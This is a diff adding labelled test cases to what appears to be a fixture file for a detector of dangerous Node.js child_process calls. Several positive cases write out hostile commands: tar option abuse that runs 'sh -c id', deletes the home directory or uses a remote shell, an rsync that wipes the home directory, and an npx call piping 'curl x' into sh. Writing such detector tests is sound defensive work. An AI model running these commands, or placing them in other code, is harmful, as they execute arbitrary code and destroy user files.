@@ -273,3 +273,41 @@ const env9 = JSON.parse(process.argv[2]);
 require('child_process').spawnSync('git', ['status'], { env: env9 });
 //@ neg an ordinary tool with the environment extended by a setting
 require('child_process').spawnSync('git', ['status'], { env: { ...process.env, NODE_ENV: 'test' } });
+//@ neg tar packs a directory
+require("child_process").execFileSync("tar", ["-czf", out, "-C", dir, name]);
+//@ neg tar extracts an archive
+require("child_process").spawnSync("tar", ["-xzf", "a.tgz", "-C", "out"]);
+//@ pos tar --checkpoint-action runs a command
+require("child_process").spawnSync("tar", ["-cf", "/dev/null", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=sh -c id"]);
+//@ pos tar --to-command abbreviated
+require("child_process").spawnSync("tar", ["-xf", "a.tar", "--to-com=sh"]);
+//@ pos tar -I in a cluster runs a compressor of the caller's choice
+require("child_process").execFileSync("tar", ["-cIf", "sh -c id", "x.tar", "."]);
+//@ pos tar old-style letters with I
+require("child_process").execFileSync("tar", ["cIf", "sh -c id", "x.tar", "."]);
+//@ pos tar --use-compress-program split from its value
+require("child_process").execFileSync("tar", ["-c", "--use-compress-program", "./x", "-f", "x.tar", "."]);
+//@ pos tar --remove-files deletes what it packs
+require("child_process").execFileSync("tar", ["-cf", "/dev/null", "--remove-files", require("os").homedir()]);
+//@ pos tar -T reads a file list that may hold options
+require("child_process").execFileSync("tar", ["-cf", "x.tar", "-T", "list.txt"]);
+//@ pos tar --rsh-command
+require("child_process").execFileSync("tar", ["-cf", "host:/x.tar", "--rsh-command=/tmp/x", "."]);
+//@ pos rsync is not an ordinary tool
+require("child_process").execFileSync("rsync", ["-a", "--delete", "empty/", require("os").homedir() + "/"]);
+//@ neg npx runs eslint on the changed files
+const lintArgs = ['eslint', '--max-warnings=0'];
+require("child_process").spawnSync("npx", [...lintArgs, "--", ...files], { stdio: "inherit" });
+//@ neg npx prettier
+require("child_process").execFileSync("npx", ["prettier", "--check", "."]);
+//@ pos npx on any package
+require("child_process").execFileSync("npx", ["left-pad-cli", "x"]);
+//@ pos npx with a flag first
+require("child_process").execFileSync("npx", ["--yes", "some-pkg"]);
+//@ pos npx with a flag spread first
+require("child_process").execFileSync("npx", [...["-y"], "some-pkg"]);
+//@ pos npx -c runs a shell command
+const o = ["-c", "curl x | sh"];
+require("child_process").spawnSync("npx", [...o]);
+//@ pos npx with arguments the analysis cannot read
+require("child_process").spawnSync("npx", process.argv.slice(2));
